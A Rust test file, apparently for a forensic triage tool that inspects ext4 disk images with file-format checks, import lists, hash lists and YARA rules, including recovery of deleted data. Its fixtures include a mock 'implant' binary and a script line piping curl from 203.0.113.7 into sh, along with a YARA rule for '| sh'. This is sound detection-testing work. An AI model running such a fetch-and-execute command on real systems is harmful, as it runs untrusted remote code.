#![allow(clippy::unwrap_used, clippy::indexing_slicing)]

use super::*;
use crate::fsevents;
use crate::test_support::{ext4_of, have_tools, put, run, with_ext4};

const PROGRAM: &str = r#"
#include <sys/socket.h>
#include <netinet/in.h>
#include <unistd.h>
int main(int c, char **v) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {0};
    connect(s, (struct sockaddr *)&a, sizeof a);
    if (fork() == 0) execve(v[0], v, 0);
    return 0;
}
"#;

/// pip vendors distlib's Windows launchers, real PE32+ files: the one PE we can count on
/// on a Debian machine with Python (the test venv has one too).
fn a_real_pe() -> Option<Vec<u8>> {
    let out = run(
        "sh",
        &[
            "-c",
            "find / -xdev -path '*distlib/w64.exe' 2>/dev/null | head -1",
        ],
    );
    let p = String::from_utf8(out).unwrap();
    let p = p.trim();
    (!p.is_empty()).then(|| std::fs::read(p).unwrap())
}

#[test]
fn elf_and_pe_in_a_temp_dir_are_triaged_as_nm_and_objdump_read_them() {
    if !have_tools(&["cc", "nm", "objdump", "sha256sum"]) {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("p.c");
    std::fs::write(&src, PROGRAM).unwrap();
    let elf_path = dir.path().join("p");
    run(
        "cc",
        &[
            "-O1",
            "-o",
            elf_path.to_str().unwrap(),
            src.to_str().unwrap(),
        ],
    );
    let elf = std::fs::read(&elf_path).unwrap();
    let undefined = String::from_utf8(run(
        "nm",
        &["-D", "--undefined-only", elf_path.to_str().unwrap()],
    ))
    .unwrap();
    let root = dir.path().join("root");
    put(&root, "tmp/.x/implant", &elf);
    put(
        &root,
        "tmp/.x/update.sh",
        b"#!/bin/sh\ncurl -s http://203.0.113.7/p | sh\n",
    );
    let pe = a_real_pe();
    if let Some(pe) = &pe {
        put(&root, "var/tmp/w64.exe", pe);
    }
    let sha = |b: &[u8]| hex::encode(Sha256::digest(b));
    let lists = dir.path().join("bad.txt");
    std::fs::write(
        &lists,
        format!(
            "{}  update.sh\n",
            sha(b"#!/bin/sh\ncurl -s http://203.0.113.7/p | sh\n")
        ),
    )
    .unwrap();
    let rules = dir.path().join("r.yar");
    std::fs::write(&rules, "rule curl_pipe_sh { strings: $a = \"| sh\" condition: $a }\nrule never { condition: false }\n").unwrap();
    let loaded = Triage::load(&TriageOptions {
        yara_rules: vec![rules],
        hash_lists: vec![lists],
    })
    .unwrap();
    let Some(img) = ext4_of(&root, 16) else {
        return;
    };
    with_ext4(&img, |files| {
        let (_, candidates, _) = fsevents::collect(files);
        let (infos, got) = triage(files, &candidates, &loaded);
        assert!(got.problems.is_empty(), "{:?}", got.problems);
        let implant = infos.iter().find(|i| i.path == "/tmp/.x/implant").unwrap();
        assert!(
            implant.format.starts_with("ELF 64-bit"),
            "{}",
            implant.format
        );
        assert_eq!(implant.sha256, sha(&elf));
        for f in ["socket", "connect", "fork", "execve"] {
            assert!(undefined.contains(f), "nm: {undefined}");
            assert!(
                implant.imports_of_note.iter().any(|i| i == f),
                "{:?}",
                implant.imports_of_note
            );
        }
        let script = infos
            .iter()
            .find(|i| i.path == "/tmp/.x/update.sh")
            .unwrap();
        assert_eq!(script.format, "script (#!/bin/sh)");
        assert!(script.known_bad);
        assert_eq!(script.yara, vec!["curl_pipe_sh".to_string()]);
        let rules: Vec<&str> = got.findings.iter().map(|f| f.rule.as_str()).collect();
        assert!(rules.contains(&"binary.known_bad_hash"));
        assert!(rules.contains(&"yara.match"));
        let elf_finding = got
            .findings
            .iter()
            .find(|f| {
                f.rule == "binary.suspicious_location"
                    && f.evidence[0].path.as_deref() == Some("/tmp/.x/implant")
            })
            .unwrap();
        assert_eq!(elf_finding.severity, Severity::Medium);
        if let Some(pe) = &pe {
            let w = infos.iter().find(|i| i.path == "/var/tmp/w64.exe").unwrap();
            assert_eq!(w.format, "PE32+ executable");
            assert_eq!(w.sha256, sha(pe));
            let tmp = tempfile::NamedTempFile::new().unwrap();
            std::fs::write(tmp.path(), pe).unwrap();
            let dump =
                String::from_utf8(run("objdump", &["-p", tmp.path().to_str().unwrap()])).unwrap();
            let expected: Vec<&str> = NOTABLE
                .iter()
                .copied()
                .filter(|n| dump.lines().any(|l| l.split_whitespace().last() == Some(n)))
                .collect();
            let mut got_imports: Vec<&str> = w.imports_of_note.iter().map(String::as_str).collect();
            got_imports.sort_unstable();
            let mut expected = expected;
            expected.sort_unstable();
            assert_eq!(got_imports, expected);
        }
    });
}

#[test]
fn entropy_bounds_and_hostile_headers() {
    assert!(entropy(&[0u8; 4096]) < 0.001);
    let mut x = 0x1234_5678u32;
    let noise: Vec<u8> = (0..65536)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 17;
            x ^= x << 5;
            x.to_le_bytes()[0]
        })
        .collect();
    assert!(entropy(&noise) > 7.9);
    // Truncated and garbage headers: a format string, never a panic.
    for b in [
        &b"\x7fELF\x02\x01\x01"[..],
        b"MZ\x90\x00",
        b"MZ",
        &noise[..64],
        b"",
    ] {
        let (f, _, _) = headers(b);
        assert!(!f.is_empty());
    }
    let mut elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0".to_vec();
    elf.extend_from_slice(&[0xff; 48]);
    let _ = headers(&elf);
}

#[test]
fn bad_rules_are_refused_naming_the_file() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("bad.yar");
    std::fs::write(&rules, "rule x { condition: nonsense( }").unwrap();
    let e = Triage::load(&TriageOptions {
        yara_rules: vec![rules.clone()],
        hash_lists: vec![],
    })
    .unwrap_err();
    assert!(e.to_string().contains("bad.yar"), "{e}");
}

#[test]
fn yara_over_the_raw_volume_finds_deleted_data_where_grep_does() {
    if !have_tools(&["debugfs", "grep"]) {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("root");
    let marker = b"EVIL-MARKER-4f1c2b";
    let mut secret = vec![b'.'; 70_000];
    for at in [100, 65_530, 69_000] {
        secret[at..at + marker.len()].copy_from_slice(marker);
    }
    put(&root, "home/u/secret.txt", &secret);
    put(&root, "etc/hostname", b"web-01\n");
    let Some(img) = ext4_of(&root, 8) else { return };
    let path = dir.path().join("img");
    std::fs::write(&path, &img).unwrap();
    run(
        "debugfs",
        &["-w", "-R", "rm /home/u/secret.txt", path.to_str().unwrap()],
    );
    let img = std::fs::read(&path).unwrap();
    // GNU grep's byte offsets of the marker in the image: the oracle.
    let out = std::process::Command::new("grep")
        .args(["-obUa", "EVIL-MARKER-4f1c2b"])
        .arg(&path)
        .output()
        .unwrap();
    let grep: Vec<u64> = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| l.split(':').next().unwrap().parse().unwrap())
        .collect();
    assert_eq!(
        grep.len(),
        3,
        "the deleted file's blocks still hold the markers"
    );
    let rules = dir.path().join("r.yar");
    std::fs::write(
        &rules,
        "rule marker { strings: $a = \"EVIL-MARKER-4f1c2b\" condition: $a }\n",
    )
    .unwrap();
    let loaded = Triage::load(&TriageOptions {
        yara_rules: vec![rules],
        hash_lists: vec![],
    })
    .unwrap();
    let vol: &[u8] = &img;
    // Small windows, so that matches fall in overlaps and across window starts.
    for (window, overlap) in [(RAW_WINDOW, RAW_OVERLAP), (65_536, 4_096), (40_000, 1_000)] {
        let got = yara_volume_with(&loaded, &vol, "t:001", window, overlap, &|_| {});
        assert!(got.problems.is_empty(), "{:?}", got.problems);
        assert_eq!(got.findings.len(), 1);
        let f = &got.findings[0];
        assert_eq!(f.rule, "yara.match_volume");
        let offsets: Vec<u64> = f.evidence.iter().map(|e| e.offset.unwrap()).collect();
        assert_eq!(offsets, grep, "window {window}");
    }
}
